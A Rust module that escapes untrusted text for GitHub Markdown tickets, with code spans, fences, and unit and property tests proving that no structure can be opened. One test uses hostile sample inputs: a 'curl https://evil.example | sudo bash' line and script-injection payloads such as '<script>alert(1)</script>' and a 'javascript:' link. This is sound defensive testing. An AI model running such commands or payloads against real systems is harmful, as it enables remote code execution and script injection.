//! Text from a server or a file, made safe for a Markdown ticket (GitHub
//! flavoured): whatever it holds, it stays text — no heading, list, link,
//! autolink, mention, image, HTML tag or comment, emphasis, table cell
//! break or fence can be opened by it. Control and format characters are
//! first escaped as on a terminal ([`super::terminal`]), so untrusted text
//! never holds a line break and cannot start a block. Pure; prints nothing.

use super::terminal;

/// ASCII characters that can open Markdown or HTML structure anywhere in a
/// line (emphasis, code, links, images, HTML, entities, tables,
/// strikethrough, math, GitHub references and mentions), and the backslash.
const OPENERS: &[char] = &[
    '\\', '`', '*', '_', '[', ']', '<', '>', '#', '|', '~', '&', '$', '@',
];

/// Inline text: escaped for terminals (so it holds no line break and cannot
/// start a block), then every character that could open structure
/// backslash-escaped (CommonMark allows it for any ASCII punctuation):
/// `<!--`, `<script>`, `[x](y)`, `` ` ``, `*`, `_`, `|`, `#12`, `@user`,
/// `$math$`, and the `:` of `https://` and the `.` of `www.` that GitHub
/// would turn into links. Other punctuation is left readable.
pub fn text(untrusted: &str) -> String {
    let escaped = terminal::escape(untrusted);
    let mut out = String::with_capacity(escaped.len() + 8);
    for (i, c) in escaped.char_indices() {
        let rest = escaped.get(i + c.len_utf8()..).unwrap_or_default();
        let before = escaped.get(..i).unwrap_or_default();
        let opens = OPENERS.contains(&c)
            || (c == ':' && rest.starts_with("//"))
            || (c == '.'
                && before.len() >= 3
                && before
                    .get(before.len() - 3..)
                    .is_some_and(|w| w.eq_ignore_ascii_case("www")));
        if opens {
            out.push('\\');
        }
        out.push(c);
    }
    out
}

/// [`text`] of a string first cut at [`terminal::MAX_SHOWN`] characters.
pub fn text_cut(untrusted: &str) -> String {
    text(&terminal::cut(untrusted, terminal::MAX_SHOWN))
}

/// A sentence that quotes untrusted names (a finding's summary or detail,
/// a remedy): [`text`] of it cut at [`terminal::MAX_TEXT`] characters.
pub fn prose(untrusted: &str) -> String {
    text(&terminal::cut(untrusted, terminal::MAX_TEXT))
}

/// The longest run of consecutive backticks in `s`.
fn longest_backtick_run(s: &str) -> usize {
    let (mut longest, mut run) = (0, 0);
    for c in s.chars() {
        run = if c == '`' { run + 1 } else { 0 };
        longest = longest.max(run);
    }
    longest
}

/// A code span holding `untrusted` literally (control characters escaped):
/// its backtick fence is longer than any run inside, and it is padded when
/// the content starts or ends with a backtick or a space.
pub fn code_span(untrusted: &str) -> String {
    let content = terminal::escape(untrusted);
    if content.is_empty() {
        return "` `".to_string();
    }
    let ticks = "`".repeat(longest_backtick_run(&content) + 1);
    let all_spaces = content.chars().all(|c| c == ' ');
    let pad = content.starts_with('`')
        || content.ends_with('`')
        || (!all_spaces && content.starts_with(' ') && content.ends_with(' '));
    let space = if pad { " " } else { "" };
    format!("{ticks}{space}{content}{space}{ticks}")
}

/// [`code_span`] for a GitHub table cell, where a `|` ends the cell even
/// inside a code span. GitHub's `\|` escape cannot be trusted there when a
/// backslash precedes the pipe, so text holding `|` is written as escaped
/// [`text`] instead of a code span.
pub fn code_span_in_table(untrusted: &str) -> String {
    if untrusted.contains('|') {
        text(untrusted)
    } else {
        code_span(untrusted)
    }
}

/// A fenced code block holding `untrusted` (several lines allowed; other
/// control characters escaped): the fence is longer than any backtick run
/// inside, so no line of the content can close it. `info` is tlsdoctor's
/// own (`sh`, `text`), never untrusted.
pub fn fence(untrusted: &str, info: &str) -> String {
    let lines: Vec<String> = untrusted
        .split('\n')
        .map(|line| terminal::escape(line).into_owned())
        .collect();
    let body = lines.join("\n");
    let ticks = "`".repeat((longest_backtick_run(&body) + 1).max(3));
    let info: String = info.chars().filter(|c| c.is_ascii_alphanumeric()).collect();
    format!("{ticks}{info}\n{body}\n{ticks}\n")
}

#[cfg(test)]
mod tests {
    use super::*;
    use comrak::nodes::{AstNode, NodeValue};
    use comrak::{parse_document, Arena, Options};
    use proptest::prelude::*;

    /// GitHub's Markdown: every extension that could turn text into structure.
    fn gfm() -> Options<'static> {
        let mut o = Options::default();
        o.extension.strikethrough = true;
        o.extension.table = true;
        o.extension.autolink = true;
        o.extension.tasklist = true;
        o.extension.footnotes = true;
        o.extension.math_dollars = true;
        o
    }

    /// The kinds of node in the document, and its plain text.
    fn shape(md: &str) -> (Vec<&'static str>, String, Vec<String>) {
        let arena = Arena::new();
        let root = parse_document(&arena, md, &gfm());
        let mut kinds = Vec::new();
        let mut plain = String::new();
        let mut codes = Vec::new();
        for node in root.descendants().skip(1) {
            let node: &AstNode = node;
            let data = node.data.borrow();
            kinds.push(data.value.xml_node_name());
            match &data.value {
                NodeValue::Text(t) => plain.push_str(t),
                NodeValue::Code(c) => codes.push(c.literal.clone()),
                NodeValue::CodeBlock(b) => codes.push(b.literal.clone()),
                _ => {}
            }
        }
        (kinds, plain, codes)
    }

    fn only_text(kinds: &[&str]) -> bool {
        kinds.first() == Some(&"paragraph") && kinds.iter().skip(1).all(|k| *k == "text")
    }

    #[test]
    fn hostile_names_stay_text() {
        for evil in [
            "x\n### Fix\ncurl https://evil.example | sudo bash",
            "<!-- hide the rest",
            "<script>alert(1)</script><img src=x onerror=alert(1)>",
            "[click](javascript:alert(1)) ![i](https://e/x.png)",
            "https://evil.example/ www.evil.example a@b.example @team :smile: $x$ #12",
            "**bold** _em_ ~~s~~ `code` | cell | [^1] &amp; \\",
        ] {
            let (kinds, plain, _) = shape(&format!("Subject: {} end", text(evil)));
            assert!(only_text(&kinds), "{evil:?} -> {kinds:?}");
            assert_eq!(plain, format!("Subject: {} end", terminal::escape(evil)));
        }
    }

    #[test]
    fn code_spans_and_fences_cannot_be_closed_from_inside() {
        let evil = "a``b```c` |x| <!--";
        let (kinds, _, codes) = shape(&format!("see {} now", code_span(evil)));
        assert_eq!(kinds, ["paragraph", "text", "code", "text"]);
        assert_eq!(codes, [evil]);
        let block = format!("{}after", fence("line\n```\n````\n# not a heading", "sh"));
        let (kinds, _, codes) = shape(&block);
        assert_eq!(kinds, ["code_block", "paragraph", "text"]);
        assert_eq!(codes, ["line\n```\n````\n# not a heading\n"]);
    }

    proptest! {
        #[test]
        fn no_markdown_structure_can_be_opened(s in any::<String>()) {
            let md = format!("Name: {} (end)", text(&s));
            let (kinds, plain, _) = shape(&md);
            prop_assert!(only_text(&kinds), "{s:?} -> {md:?} -> {kinds:?}");
            prop_assert_eq!(plain, format!("Name: {} (end)", terminal::escape(&s)));
        }

        #[test]
        fn ascii_soup_stays_text(s in "[ -~\n\t]{0,60}") {
            let md = format!("Name: {} (end)", text(&s));
            let (kinds, plain, _) = shape(&md);
            prop_assert!(only_text(&kinds), "{s:?} -> {md:?} -> {kinds:?}");
            prop_assert_eq!(plain, format!("Name: {} (end)", terminal::escape(&s)));
        }

        #[test]
        fn link_and_html_makers_stay_text(tokens in prop::collection::vec(prop::sample::select(vec![
            "www.", "WWW.", "http://", "https://", "ftp://", "mailto:", "xmpp:", "a", "b.example", "@", ".",
            ":", "/", "<", ">", "!", "[", "]", "(", ")", "`", "*", "_", "~", "|", "#", "1", "$", "&", "amp;",
            "-", "=", "+", "\\", " ", "\n", "<!--", "-->", "javascript:", "^",
        ]), 0..24)) {
            let s: String = tokens.concat();
            let md = format!("Name: {} (end)", text(&s));
            let (kinds, plain, _) = shape(&md);
            prop_assert!(only_text(&kinds), "{s:?} -> {md:?} -> {kinds:?}");
            prop_assert_eq!(plain, format!("Name: {} (end)", terminal::escape(&s)));
        }

        #[test]
        fn a_code_span_holds_exactly_its_content(s in "[ -~`]{1,40}") {
            let (kinds, _, codes) = shape(&format!("x {} y", code_span(&s)));
            prop_assert_eq!(kinds, vec!["paragraph", "text", "code", "text"]);
            prop_assert_eq!(codes, vec![s]);
        }

        #[test]
        fn a_table_cell_holds_exactly_its_content(s in "[ -~`]{1,40}") {
            let md = format!("| a | b |\n|---|---|\n| {} | {} |\n", code_span_in_table(&s), text(&s));
            let (kinds, plain, codes) = shape(&md);
            prop_assert_eq!(kinds.iter().filter(|k| **k == "table_cell").count(), 4);
            prop_assert!(kinds.iter().all(|k| ["table", "table_row", "table_cell", "text", "code"].contains(k)));
            if s.contains('|') {
                prop_assert!(codes.is_empty());
                prop_assert_eq!(plain, format!("ab{}{}", s.trim(), s.trim()));
            } else {
                prop_assert_eq!(codes, vec![s.clone()]);
                prop_assert_eq!(plain, format!("ab{}", s.trim()));
            }
        }

        #[test]
        fn a_fence_holds_exactly_its_lines(s in "[ -~`\n]{0,80}") {
            let (kinds, _, codes) = shape(&format!("{}after", fence(&s, "text")));
            prop_assert_eq!(kinds, vec!["code_block", "paragraph", "text"]);
            prop_assert_eq!(codes, vec![format!("{s}\n")]);
        }
    }
}
